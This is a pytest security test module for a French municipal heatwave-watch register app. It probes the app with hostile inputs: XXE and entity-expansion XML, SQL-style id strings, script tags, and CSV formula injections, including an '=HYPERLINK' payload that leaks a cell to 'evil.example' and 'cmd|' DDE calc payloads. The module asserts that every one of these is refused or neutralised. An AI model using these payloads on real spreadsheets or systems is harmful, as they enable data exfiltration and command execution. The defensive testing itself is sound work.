"""Hostile input on the register of vulnerable people and the heatwave plans (issue 17): ids out of range on
every route, agents of other services and purposes, garbage in every form, vigilance files built to hurt, CSV
injection in the préfet's file, SMS replies from strangers and STOP from a person to warn, the CLI on bad input.
Each probe expects a clear refusal (4xx, or a one-line CLI error) and no change of state."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from proactif.accounts.domain import system_actor
from proactif.audit.models import AccessLog
from proactif.cli import main
from proactif.journeys.models import JourneyInstance
from proactif.kernel import clock
from proactif.messaging import _outbox as outbox
from proactif.messaging import _receipts as receipts
from proactif.messaging.models import OutboxMessage
from proactif.registry.models import OptOut, Person
from proactif.watch import services
from proactif.watch.models import Call, CheckIn, Need, Plan, Registration, VigilanceReading

pytestmark = pytest.mark.django_db

ACTOR = system_actor("attack")
MORNING = datetime(2026, 7, 14, 7, 0, tzinfo=UTC)  # 09:00 in Paris
SAMPLE = Path(__file__).resolve().parents[2] / "data" / "vigilance" / "vigilance-canicule-2026-07-sample.json"
BAD_IDS = (str(2**63), str(2**63 - 1), "0", "-1", "abc", "1e3", "99999999999999999999999", "%20", "1.0")
CONTACT_NUMBER = "+33798765432"  # nobody's in the seeded commune


@pytest.fixture
def moving() -> Iterator[clock.FixedClock]:
    fixed = clock.FixedClock(MORNING)
    with clock.use(fixed):
        yield fixed


def client_for(agents: dict, who: str = "sante", purpose: str | None = None) -> Client:
    client = Client()
    client.force_login(agents[who])
    if purpose:
        session = client.session
        session["proactif_purpose"] = purpose
        session.save()
    return client


def ours() -> str:
    return services.departements()[0]


def orange_plan() -> Plan:
    result = services.record_level(ACTOR, ours(), "canicule", "orange")
    return Plan.objects.get(pk=result["plan"]["id"])


def unregistered(min_age: int = 66, max_age: int = 100) -> int:
    today = clock.today()
    person = Person.objects.filter(
        status="active", source="synth", date_naissance__lte=today.replace(year=today.year - min_age),
        date_naissance__gt=today.replace(year=today.year - max_age), household__address__isnull=False,
        taux_incapacite__lt=50).exclude(pk__in=Registration.objects.values_list("person_id", flat=True)).exclude(
        benefits__benefit="aah").exclude(resources__kind="invalidite").order_by("id").first()
    assert person is not None
    return int(person.pk)


def checkin_without_path(plan: Plan) -> CheckIn:
    """A check-in whose no-answer path has not started (a person without a mobile, called first)."""
    checkin = CheckIn.objects.filter(plan=plan, instance_id__isnull=True).order_by("id").first()
    if checkin is None:  # every registered person has a mobile: stop one path, as if it had never started
        checkin = CheckIn.objects.filter(plan=plan).order_by("id").first()
        assert checkin is not None
        services.campaign.stop_person(checkin.person_id, "test")
        CheckIn.objects.filter(pk=checkin.pk).update(instance_id=None)
        checkin.refresh_from_db()
    return checkin


# --- ids out of range, on every route -----------------------------------------------------------------------------
ID_ROUTES = (("get", "/veille/plans/{}/"), ("get", "/veille/plans/{}/appels/"), ("get", "/veille/plans/{}/prefet.csv"),
             ("post", "/veille/plans/{}/lever/"), ("post", "/veille/contacts/{}/appel/"),
             ("post", "/veille/contacts/{}/prise-en-charge/"), ("get", "/veille/registre/{}/"),
             ("post", "/veille/registre/{}/"))


@pytest.mark.parametrize("bad", BAD_IDS)
@pytest.mark.parametrize(("method", "pattern"), ID_ROUTES)
def test_an_id_out_of_range_or_not_a_number_is_a_404_on_every_route(agents, method: str, pattern: str,
                                                                    bad: str) -> None:
    client = client_for(agents)
    data = {"issue": "ok", "action": "confirmer"} if method == "post" else {}
    response = getattr(client, method)(pattern.format(bad), data)
    assert response.status_code == 404, (pattern, bad, response.status_code)
    other = "post" if method == "get" else "get"
    assert getattr(client, other)(pattern.format(bad)).status_code in (404, 405)


@pytest.mark.parametrize("raw", [str(2**63), str(2**63 - 1), "999999999999999999", "-1", "0", "x", "1;DROP"])
def test_ids_in_query_strings_and_forms_are_refused_not_looked_up(agents, raw: str) -> None:
    client = client_for(agents)
    assert client.get("/veille/registre/", {"quartier": raw}).status_code == 200
    assert client.get("/veille/registre/", {"page": raw, "tri": raw, "filtre": raw, "statut": raw}).status_code == 200
    enrol = client.get("/veille/registre/inscrire/", {"personne": raw})
    assert enrol.status_code in (200, 404)  # an unknown person is a 404; not an id: the search form again
    before = Registration.objects.count()
    posted = client.post("/veille/registre/inscrire/", {"personne": raw, "qualite": "age_65", "demandeur": "personne"})
    assert posted.status_code in (400, 404)
    assert Registration.objects.count() == before


def test_a_plans_pages_take_any_day_and_page_without_failing(agents, moving) -> None:
    plan = orange_plan()
    client = client_for(agents)
    for query in ({"jour": "9999-99-99"}, {"jour": "0001-01-01"}, {"jour": "2026-02-30"}, {"jour": "x" * 5000},
                  {"page": str(2**63)}, {"page": "-3"}, {"tous": "1", "page": "abc"}, {"export": "csv", "jour": "z"}):
        assert client.get(f"/veille/plans/{plan.pk}/", query).status_code == 200, query
        assert client.get(f"/veille/plans/{plan.pk}/appels/", query).status_code == 200, query


# --- agents of another service or purpose -------------------------------------------------------------------------
OUTSIDERS = (("police", None), ("etat_civil", None), ("communication", None), ("dpo", None), ("admin", None),
             ("ccas", "action_sociale"), ("ccas", None), ("ccas", "rgpd"), ("dpo", "rgpd"),
             ("police", "prevention_sante"))


@pytest.mark.parametrize(("who", "purpose"), OUTSIDERS)
def test_no_other_service_or_purpose_reads_or_writes_anything(agents, moving, who: str, purpose: str | None) -> None:
    plan = orange_plan()
    checkin = CheckIn.objects.filter(plan=plan).order_by("id").first()
    assert checkin is not None
    CheckIn.objects.filter(pk=checkin.pk).update(answer="besoin_aide")
    entry = Registration.objects.get(pk=checkin.registration_id)
    person = unregistered()
    client = client_for(agents, who, purpose)
    logged = AccessLog.objects.order_by("-id").values_list("id", flat=True).first() or 0
    readings = VigilanceReading.objects.count()
    gets = ("/veille/", "/veille/registre/", "/veille/registre/?export=csv", "/veille/registre/inscrire/",
            f"/veille/registre/inscrire/?personne={person}", f"/veille/registre/{entry.pk}/",
            f"/veille/plans/{plan.pk}/", f"/veille/plans/{plan.pk}/?export=csv", f"/veille/plans/{plan.pk}/appels/",
            f"/veille/plans/{plan.pk}/prefet.csv")
    for url in gets:
        assert client.get(url).status_code == 403, (who, purpose, url)
    posts = (("/veille/vigilance/", {"departement": ours(), "phenomene": "canicule", "niveau": "rouge"}),
             ("/veille/registre/inscrire/", {"personne": person, "qualite": "age_65", "demandeur": "personne",
                                             "domicile": "1"}),
             (f"/veille/registre/{entry.pk}/", {"action": "radier", "motif": "demande"}),
             (f"/veille/registre/{entry.pk}/", {"action": "besoins", "besoins": "oxygène", "accord": "ecrit"}),
             (f"/veille/contacts/{checkin.pk}/appel/", {"issue": "ok"}),
             (f"/veille/contacts/{checkin.pk}/prise-en-charge/", {}),
             (f"/veille/plans/{plan.pk}/lever/", {}))
    for url, data in posts:
        assert client.post(url, data).status_code == 403, (who, purpose, url)
    plan.refresh_from_db()
    checkin.refresh_from_db()
    entry.refresh_from_db()
    assert (plan.level, plan.ended_at) == (3, None)
    assert (checkin.answer, checkin.handled_at, checkin.attempts) == ("besoin_aide", None, 0)
    assert entry.status == "inscrite" and not Need.objects.filter(registration=entry, text="oxygène").exists()
    assert not Registration.objects.filter(person_id=person).exists()
    assert not Call.objects.filter(checkin=checkin).exists()
    assert VigilanceReading.objects.count() == readings
    assert not AccessLog.objects.filter(id__gt=logged, person_id__isnull=False).exists()


# --- the vigilance form and file ----------------------------------------------------------------------------------
@pytest.mark.parametrize("form", [
    {"departement": "20", "phenomene": "canicule", "niveau": "orange"},
    {"departement": "2C", "phenomene": "canicule", "niveau": "orange"},
    {"departement": "999", "phenomene": "canicule", "niveau": "orange"},
    {"departement": "", "phenomene": "canicule", "niveau": "orange"},
    {"departement": "7" * 5000, "phenomene": "canicule", "niveau": "orange"},
    {"departement": "75\x00", "phenomene": "canicule", "niveau": "orange"},
    {"departement": "75", "phenomene": "canicule", "niveau": "violet"},
    {"departement": "75", "phenomene": "canicule", "niveau": ""},
    {"departement": "75", "phenomene": "canicule", "niveau": "5"},
    {"departement": "75", "phenomene": "canicule", "niveau": "0"},
    {"departement": "75", "phenomene": "canicule", "niveau": "3.0"},
    {"departement": "75", "phenomene": "orages", "niveau": "orange"},
    {"departement": "75", "phenomene": "", "niveau": "orange"},
    {},
])
def test_a_bad_vigilance_level_is_a_400_on_the_page_and_records_nothing(agents, moving, form: dict) -> None:
    readings, plans = VigilanceReading.objects.count(), Plan.objects.count()
    response = client_for(agents).post("/veille/vigilance/", form)
    assert response.status_code == 400
    assert 'role="alert"' in response.content.decode()
    assert (VigilanceReading.objects.count(), Plan.objects.count()) == (readings, plans)


def upload(agents: dict, content: bytes, name: str = "vigilance.json") -> object:
    return client_for(agents).post("/veille/vigilance/", {"fichier": SimpleUploadedFile(name, content)})


NESTED = b'{"product": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


@pytest.mark.parametrize(("content", "said"), [
    (b"hello, not a bulletin", "ni JSON ni XML"),
    (b"", "vide"),
    (b"\xff\xfe{\x00}\x00", "illisible"),
    (b"{" + b" " * (6 * 1024 * 1024) + b"}", "trop volumineux"),
    (b'<?xml version="1.0"?><!DOCTYPE CV [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><CV>&b;</CV>',
     "DOCTYPE"),
    (b'<!DOCTYPE CV SYSTEM "file:///etc/passwd"><CV/>', "DOCTYPE"),
    (b'{"product": {"update_time": "2026-07-14T06:00:00+00:00", "periods": [[[1, 2], [3, 4]], [[5, 6]]]}}',
     "objet attendu"),
    (b'[[[0, 0, 0], [1, 1, 1]], [[2, 2, 2]]]', "objet attendu"),
    (NESTED, "illisible"),
    (b'{"product": {"update_time": "2026-07-14T06:00:00+00:00", "periods": [{"echeance": "J", "timelaps": '
     b'{"domain_ids": [{"domain_id": "75", "phenomenon_items": [{"phenomenon_id": "6", '
     b'"phenomenon_max_color_id": 1e400}]}]}}]}}', "entier attendu"),
    (b'{"product": {"update_time": "2026-07-14T06:00:00+00:00", "periods": [{"echeance": "J", "timelaps": '
     b'{"domain_ids": [{"domain_id": ' + b"9" * 5000 + b', "phenomenon_items": []}]}}]}}', "illisible"),
    (b'{"product": {"update_time": "2026-07-14T06:00:00+00:00", "periods": [{"echeance": "J", "timelaps": '
     b'{"domain_ids": [{"domain_id": "75", "phenomenon_items": [{"phenomenon_id": "6", '
     b'"phenomenon_max_color_id": 7}]}]}}]}}', "couleur inconnue"),
])
def test_a_vigilance_file_built_to_hurt_is_a_400_and_records_nothing(agents, moving, content: bytes,
                                                                     said: str) -> None:
    readings, plans = VigilanceReading.objects.count(), Plan.objects.count()
    response = upload(agents, content)
    assert response.status_code == 400
    assert said in response.content.decode()
    assert (VigilanceReading.objects.count(), Plan.objects.count()) == (readings, plans)


def test_a_vigilance_file_with_cr_only_line_ends_reads_like_the_sample(agents, moving) -> None:
    text = SAMPLE.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r")
    assert b"\n" not in text
    response = upload(agents, text)
    assert response.status_code == 302
    assert VigilanceReading.objects.exists()


# --- the enrolment form -------------------------------------------------------------------------------------------
def enrol_form(person_id: int, **fields: str) -> dict[str, str]:
    return {"personne": str(person_id), "qualite": "age_65", "demandeur": "personne", "domicile": "1", **fields}


@pytest.mark.parametrize("fields", [
    {"date_demande": "2099-01-01"},
    {"date_demande": "9999-12-31"},
    {"date_demande": "2026-13-45"},
    {"date_demande": "+002026-01-01"},
    {"date_demande": "1" * 400},
    {"telephone": "123"},
    {"telephone": "+33 1 23"},
    {"telephone": "x" * 5000},
    {"urgence_nom": "Paul DURAND", "urgence_telephone": "123"},
    {"urgence_nom": "Paul DURAND"},  # neither phone nor e-mail
    {"urgence_telephone": "0612345678"},  # a phone without a name
    {"qualite": "roi"},
    {"qualite": ""},
    {"qualite": "handicap"},  # no recognition known nor declared
    {"qualite": "inapte_60"},  # not declared unfit for work
    {"demandeur": "voisin"},
    {"demandeur": "tiers"},  # no name, no quality
    {"demandeur": "tiers", "tiers_nom": "Marie", "tiers_qualite": "cousine"},
    {"demandeur": "transmission", "transmission": "msa"},
    {"handicap": "licorne"},
    {"besoins": "oxygène"},  # no agreement
    {"domicile": ""},  # in an establishment
])
def test_a_bad_enrolment_is_a_400_on_the_page_and_registers_nobody(agents, moving, fields: dict) -> None:
    person_id = unregistered()
    data = enrol_form(person_id, **fields)
    if not data["domicile"]:
        del data["domicile"]
    before = OutboxMessage.objects.count()
    response = client_for(agents).post("/veille/registre/inscrire/", data)
    assert response.status_code == 400, fields
    assert 'role="alert"' in response.content.decode()
    assert not Registration.objects.filter(person_id=person_id).exists()
    assert OutboxMessage.objects.count() == before  # no acknowledgement left


def test_a_person_not_eligible_nor_already_registered_nor_gone_can_be_enrolled(agents, moving) -> None:
    client = client_for(agents)
    young = unregistered(20, 40)
    assert client.post("/veille/registre/inscrire/", enrol_form(young)).status_code == 400
    assert not Registration.objects.filter(person_id=young).exists()
    registered = Registration.objects.filter(status="inscrite").order_by("id").first()
    assert registered is not None
    response = client.post("/veille/registre/inscrire/", enrol_form(registered.person_id))
    assert response.status_code == 400 and "déjà inscrite" in response.content.decode()
    assert Registration.objects.filter(person_id=registered.person_id).count() == 1
    gone = unregistered()
    Person.objects.filter(pk=gone).update(status="moved_out")
    assert client.post("/veille/registre/inscrire/", enrol_form(gone)).status_code in (400, 404)
    assert not Registration.objects.filter(person_id=gone).exists()


def test_a_request_date_from_before_the_register_existed_is_refused(agents, moving) -> None:
    """A typo (0001-01-01) must not make an entry 2,000 years old: no request predates the law of 30 June 2004."""
    person_id = unregistered()
    response = client_for(agents).post("/veille/registre/inscrire/", enrol_form(person_id, date_demande="0001-01-01"))
    assert response.status_code == 400
    assert not Registration.objects.filter(person_id=person_id).exists()


# --- the entry, the calls, the plan -------------------------------------------------------------------------------
def test_entry_actions_unknown_or_twice_are_refused_without_change(agents, moving) -> None:
    client = client_for(agents)
    registration = services.enrol(ACTOR, services.Request(unregistered(), "age_65"))
    url = f"/veille/registre/{registration.pk}/"
    assert client.post(url, {"action": "supprimer"}).status_code == 400
    assert client.post(url, {}).status_code == 400
    response = client.post(url, {"action": "radier", "motif": "lassitude"}, follow=True)
    assert response.status_code == 200 and "motif de radiation inconnu" in response.content.decode()
    registration.refresh_from_db()
    assert registration.status == "inscrite"
    assert client.post(url, {"action": "radier", "motif": "demande"}).status_code == 302
    again = client.post(url, {"action": "radier", "motif": "deces"}, follow=True)
    assert "déjà radiée" in again.content.decode()
    registration.refresh_from_db()
    assert (registration.status, registration.removal_reason) == ("radiee", "demande")
    for action in ({"action": "confirmer"}, {"action": "besoins", "besoins": "oxygène", "accord": "ecrit"}):
        assert "inconnue ou radiée" in client.post(url, action, follow=True).content.decode()
    registration.refresh_from_db()
    assert registration.status == "radiee" and not Need.objects.filter(registration=registration).exists()


@pytest.mark.parametrize("issue", ["", "peut-etre", "OK", "ok ", "x" * 5000, "<script>"])
def test_an_unknown_call_outcome_is_a_400_and_records_no_call(agents, moving, issue: str) -> None:
    plan = orange_plan()
    checkin = CheckIn.objects.filter(plan=plan).order_by("id").first()
    response = client_for(agents).post(f"/veille/contacts/{checkin.pk}/appel/", {"issue": issue})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")  # the outcome echoed is text, never HTML
    assert not Call.objects.filter(checkin=checkin).exists()


def test_a_call_on_a_lifted_plan_is_refused_and_starts_no_path(agents, moving) -> None:
    """On a lifted plan a « numéro erroné » must not start the no-answer path again (a message to the person to
    warn, a home-visit task, then « appeler les secours » for a plan that is over)."""
    plan = orange_plan()
    checkin = checkin_without_path(plan)
    client = client_for(agents)
    assert client.post(f"/veille/plans/{plan.pk}/lever/").status_code == 302
    paths = JourneyInstance.objects.count()
    response = client.post(f"/veille/contacts/{checkin.pk}/appel/", {"issue": "faux_numero"})
    checkin.refresh_from_db()
    assert checkin.instance_id is None and JourneyInstance.objects.count() == paths
    assert response.status_code in (400, 409)
    assert not Call.objects.filter(checkin=checkin).exists()


def test_a_call_for_a_person_removed_from_the_register_starts_no_path(agents, moving) -> None:
    """After a removal (R121-11), a call outcome on the day's check-in must not start the no-answer path: no visit
    and no emergency task for someone who asked to leave the register."""
    plan = orange_plan()
    checkin = checkin_without_path(plan)
    services.remove(ACTOR, checkin.registration_id, "demande")
    paths = JourneyInstance.objects.count()
    response = client_for(agents).post(f"/veille/contacts/{checkin.pk}/appel/", {"issue": "faux_numero"})
    checkin.refresh_from_db()
    assert checkin.instance_id is None and JourneyInstance.objects.count() == paths
    assert response.status_code in (400, 409)


def test_take_in_charge_twice_and_end_a_plan_twice_change_nothing_the_second_time(agents, moving) -> None:
    plan = orange_plan()
    checkin = CheckIn.objects.filter(plan=plan).order_by("id").first()
    first, second = client_for(agents), client_for(agents, "ccas", "prevention_sante")
    url = f"/veille/contacts/{checkin.pk}/prise-en-charge/"
    refused = first.post(url, follow=True)  # no need for help signalled: nothing to take in charge
    assert "déjà pris en charge, ou ce contact n" in refused.content.decode()
    CheckIn.objects.filter(pk=checkin.pk).update(answer="besoin_aide")
    assert first.post(url).status_code == 302
    checkin.refresh_from_db()
    taken = (checkin.handled_at, checkin.handled_by)
    assert taken[0] is not None
    again = second.post(url, follow=True)
    assert again.status_code == 200 and "déjà pris en charge" in again.content.decode()
    checkin.refresh_from_db()
    assert (checkin.handled_at, checkin.handled_by) == taken
    assert first.post(f"/veille/plans/{plan.pk}/lever/").status_code == 302
    plan.refresh_from_db()
    ended = plan.ended_at
    readings = VigilanceReading.objects.count()
    twice = first.post(f"/veille/plans/{plan.pk}/lever/", follow=True)
    assert "déjà levé" in twice.content.decode()
    plan.refresh_from_db()
    assert plan.ended_at == ended and VigilanceReading.objects.count() == readings


# --- CSV injection ------------------------------------------------------------------------------------------------
FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A2;\"clic\")", "+33+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3")


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_formulas_in_third_party_and_contact_names_are_neutralised_in_the_prefets_file_and_exports(agents,
                                                                                                  moving) -> None:
    ids = []
    for n, formula in enumerate(FORMULAS):
        ids.append(services.enrol(ACTOR, services.Request(
            unregistered(), "age_65", requested_by="tiers", third_party_name=formula, third_party_quality="proche",
            home_service=formula, contacts=[services.ContactInput("urgence", formula, formula, f"06123456{n:02d}"),
                                            services.ContactInput("referent", formula, "", "", "a@example.org")])).pk)
    plan = orange_plan()
    client = client_for(agents)
    files = [client.get(f"/veille/plans/{plan.pk}/prefet.csv"), client.get("/veille/registre/?export=csv"),
             client.get(f"/veille/plans/{plan.pk}/?export=csv")]
    for response in files:
        assert response.status_code == 200
        for row in csv_rows(response.content):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    prefet = csv_rows(files[0].content)
    cells = {cell for row in prefet for cell in row}
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert Registration.objects.filter(pk__in=ids, status="inscrite").count() == len(FORMULAS)


# --- SMS replies --------------------------------------------------------------------------------------------------
def test_a_2_from_a_number_nobody_has_changes_no_check_in(moving, heard) -> None:
    plan = orange_plan()
    before = dict(CheckIn.objects.filter(plan=plan).values_list("id", "answer"))
    for n in range(30):
        assert receipts.record_inbound("sms", "sms-a", "+33699000111", "2", provider_id=f"flood-{n}") == "reply"
    assert receipts.record_inbound("sms", "sms-a", "not-a-number", "2") == "reply"
    assert dict(CheckIn.objects.filter(plan=plan).values_list("id", "answer")) == before
    assert not [e for e in heard if e["event"] in ("veille_aide", "veille_ok")]


def test_a_stop_from_a_person_to_warn_stops_the_messages_to_that_number(moving) -> None:
    registration = services.enrol(ACTOR, services.Request(unregistered(), "age_65", contacts=[
        services.ContactInput("urgence", "Paul DURAND", "fils", CONTACT_NUMBER)]))
    plan = orange_plan()
    checkin = CheckIn.objects.get(plan=plan, registration=registration)
    found = services.contact_recipients([JourneyInstance(pk=1, person_id=checkin.person_id,
                                                         context={"veille_id": checkin.pk})])
    assert [(channel, address) for channel, address, _ in found[1]] == [("sms", CONTACT_NUMBER)]
    assert receipts.record_inbound("sms", "sms-a", CONTACT_NUMBER, "STOP") == "stop"
    assert OptOut.objects.filter(contact_value=CONTACT_NUMBER, revoked_at__isnull=True).exists()
    keys = outbox.persist([outbox.MessageSpec(
        "attack-stop-contact", None, "veille.contact_urgence", "veille_sante", "ccas", policy=["sms"],
        context={"veille_id": checkin.pk}, trigger="attack", address=CONTACT_NUMBER)])
    outbox.send_batch(list(keys.values()))
    row = OutboxMessage.objects.get(idempotency_key="attack-stop-contact")
    assert (row.status, row.sent_at) == ("cancelled", None)


# --- the CLI ------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("args", "code"), [
    (["watch", "heatwave", "--departement", "2C", "--level", "orange"], 2),
    (["watch", "heatwave", "--departement", "75", "--level", "purple"], 2),
    (["watch", "heatwave", "--departement", "", "--level", "orange", "--json"], 2),
    (["watch", "coldwave", "--departement", "999", "--level", "rouge"], 2),
    (["watch", "heatwave", "--departement", "75"], 2),
    (["watch", "vigilance", "/etc/passwd"], 1),
    (["watch", "vigilance", "/nonexistent/vigilance.json"], 2),
    (["watch", "vigilance", str(SAMPLE.parent)], 2),
    (["watch", "vigilance", "/dev/null"], 1),
    (["watch", "news2", "--rr", "NaN", "--spo2", "96", "--sbp", "120", "--hr", "70", "--acvpu", "A", "--temp", "37"],
     2),
    (["watch", "news2", "--rr", "18", "--spo2", "96", "--sbp", "120", "--hr", "70", "--acvpu", "A", "--temp",
      "1e999999"], 2),
    (["watch", "news2", "--rr", "18", "--spo2", "96", "--sbp", "120", "--hr", "70", "--acvpu", "Z", "--temp", "37"],
     2),
])
def test_the_cli_refuses_bad_input_in_one_line_without_a_traceback(args: list[str], code: int) -> None:
    result = CliRunner().invoke(main, args)
    output = result.output.strip()
    assert result.exit_code == code, output
    assert "Traceback" not in output and isinstance(result.exception, SystemExit)
    errors = [line for line in output.splitlines() if line.startswith("Error")]
    assert len(errors) == 1, output


def test_the_cli_refuses_a_vigilance_file_too_big_in_one_line(tmp_path: Path) -> None:
    big = tmp_path / "big.json"
    big.write_bytes(b"{" + b" " * (6 * 1024 * 1024) + b"}")
    result = CliRunner().invoke(main, ["watch", "vigilance", str(big)])
    assert result.exit_code == 1 and "trop volumineux" in result.output
    assert isinstance(result.exception, SystemExit) and len(result.output.strip().splitlines()) == 1


def test_the_cli_imports_the_sample_and_prints_json(moving) -> None:
    result = CliRunner().invoke(main, ["watch", "vigilance", str(SAMPLE), "--json"])
    assert result.exit_code == 0, result.output
    assert "levels" in json.loads(result.output)

